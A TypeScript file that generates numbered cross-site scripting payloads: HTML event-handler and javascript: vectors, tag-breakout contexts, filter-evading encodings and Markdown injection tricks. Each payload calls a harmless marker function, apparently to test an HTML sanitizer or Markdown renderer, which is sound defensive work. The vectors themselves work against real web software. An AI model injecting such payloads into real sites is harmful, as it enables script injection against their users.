/** One way to run a script, once it stands in a page as HTML. `x` is the call; the number tells which payload ran. */
type Vector = (x: string) => string;

/** HTML that runs a script by itself or at the slightest touch. */
const vectors: Record<string, Vector> = {
  script: (x) => `<script>${x}</script>`,
  image: (x) => `<img src=x onerror=${x}>`,
  imageQuoted: (x) => `<img src="x" onerror="${x}">`,
  imageSlashes: (x) => `<img/src='x'/onerror='${x}'/>`,
  imageCapitals: (x) => `<ImG sRc=x OnErRoR=${x}>`,
  imageNewlines: (x) => `<img\nsrc=x\nonerror\n=\n${x}\n>`,
  imageOpen: (x) => `<img src=x onerror=${x} `,
  imageLoad: (x) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${x} onerror=${x}>`,
  svg: (x) => `<svg onload=${x}>`,
  svgSlash: (x) => `<svg/onload=${x}>`,
  svgScript: (x) => `<svg><script>${x}</script></svg>`,
  svgAnimate: (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`,
  svgSet: (x) => `<svg><set onbegin=${x} attributeName=x dur=1s>`,
  svgLink: (x) => `<svg><a xlink:href="javascript:${x}"><text y=9>x</text></a></svg>`,
  body: (x) => `<body onload=${x}>`,
  bodyShown: (x) => `<body onpageshow=${x}>`,
  frame: (x) => `<iframe srcdoc="<script>${x}</script>"></iframe>`,
  frameAddress: (x) => `<iframe src="javascript:${x}"></iframe>`,
  frameLoad: (x) => `<iframe onload=${x}></iframe>`,
  object: (x) => `<object data="data:text/html,x" onerror=${x} onload=${x}></object>`,
  details: (x) => `<details open ontoggle=${x}><summary>x</summary></details>`,
  video: (x) => `<video><source onerror=${x}></video>`,
  audio: (x) => `<audio src=x onerror=${x}></audio>`,
  input: (x) => `<input autofocus onfocus=${x}>`,
  select: (x) => `<select autofocus onfocus=${x}></select>`,
  textarea: (x) => `<textarea autofocus onfocus=${x}></textarea>`,
  marquee: (x) => `<marquee onstart=${x}>x</marquee>`,
  style: (x) => `<style onload=${x}></style>`,
  link: (x) => `<link rel=stylesheet href=x onerror=${x}>`,
  click: (x) => `<b onclick=${x}>x</b>`,
  over: (x) => `<b onmouseover=${x}>x</b>`,
  pointer: (x) => `<a onpointerenter=${x}>x</a>`,
  address: (x) => `<a href="javascript:${x}">x</a>`,
  addressTab: (x) => `<a href="java\tscript:${x}">x</a>`,
  addressEntity: (x) => `<a href="&#106;avascript:${x}">x</a>`,
  addressEntityLong: (x) => `<a href="&#x000006A&#x00061vascript&colon;${x}">x</a>`,
  addressBefore: (x) => `<a href=" \u0001javascript:${x}">x</a>`,
  form: (x) => `<form action="javascript:${x}"><button>x</button></form>`,
  formAction: (x) => `<form><button formaction="javascript:${x}">x</button></form>`,
  math: (x) => `<math><mtext><img src=x onerror=${x}></mtext></math>`,
  custom: (x) => `<xss tabindex=1 onfocus=${x} onclick=${x}>x</xss>`,
  noscript: (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`,
  template: (x) => `<template><s></template><img src=x onerror=${x}>`,
};

/** What the payload breaks out of, where it is put somewhere that is no text. */
const contexts: Record<string, (html: string) => string> = {
  bare: (html) => html,
  attribute: (html) => `"><b>${html}`,
  singleQuoted: (html) => `'><b>${html}`,
  comment: (html) => `<!-- x -->${html}`,
  endOfComment: (html) => `-->${html}`,
  endOfTitle: (html) => `</title>${html}`,
  endOfText: (html) => `</textarea>${html}`,
  endOfScript: (html) => `</script>${html}`,
  endOfStyle: (html) => `</style>${html}`,
  table: (html) => `<table><tr><td>${html}`,
  cdata: (html) => `<![CDATA[x]]>${html}`,
};

/** The same call, written so that a list of bad words does not know it. */
const spellings: Record<string, (n: number) => string> = {
  plain: (n) => `top.x(${n})`,
  bracket: (n) => `top['x'](${n})`,
  unicode: (n) => `t\\u006fp.x(${n})`,
  entities: (n) => `&#116;op.x&lpar;${n}&rpar;`,
};

/** Markdown that a careless renderer turns into one of the above. */
const markdown: Record<string, Vector> = {
  link: (x) => `[x](javascript:${x})`,
  linkCapitals: (x) => `[x](JaVaScRiPt:${x})`,
  linkAngles: (x) => `[x](<javascript:${x}>)`,
  linkEntity: (x) => `[x](javascript&colon;${x})`,
  linkEntityNumber: (x) => `[x](&#106;avascript:${x})`,
  linkTitle: (x) => `[x](/y "\\"><img src=x onerror=${x}>")`,
  autolink: (x) => `<javascript:${x}>`,
  reference: (x) => `[x][1]\n\n[1]: javascript:${x}`,
  referenceTitle: (x) => `[x][1]\n\n[1]: /y '"><img src=x onerror=${x}>'`,
  picture: (x) => `![x](x"onerror="${x})`,
  pictureAlt: (x) => `!["><img src=x onerror=${x}>](/y)`,
  code: (x) => `\`\`\`"><img/src=x/onerror=${x}>\ncode\n\`\`\``,
  codeHtml: (x) => `\`\`\`html\n<img src=x onerror=${x}>\n\`\`\``,
  inline: (x) => `\`<img src=x onerror=${x}>\``,
  table: (x) => `| a |\n| --- |\n| <img src=x onerror=${x}> |`,
  quote: (x) => `> <img src=x onerror=${x}>`,
  heading: (x) => `# <img src=x onerror=${x}>`,
  bold: (x) => `**<img src=x onerror=${x}>**`,
  address: (x) => `https://example.org/"onmouseover="${x}`,
};

export interface Payload {
  n: number;
  text: string;
}

/** Every vector in every context in one spelling or another: each payload has a number, which it calls when it runs. */
export function makePayloads(): Payload[] {
  const ways = Object.values(spellings);
  const made: string[] = [];
  const add = (write: (x: string) => string) => made.push(write(ways[made.length % ways.length]!(made.length)));
  for (const vector of Object.values(vectors)) {
    for (const context of Object.values(contexts)) add((x) => context(vector(x)));
  }
  return made.map((text, n) => ({ n, text }));
}

/** Payloads in Markdown, numbered from `from` on. */
export const makeMarkdown = (from: number): Payload[] =>
  Object.values(markdown).map((write, i) => ({ n: from + i, text: write(`top.x(${from + i})`) }));
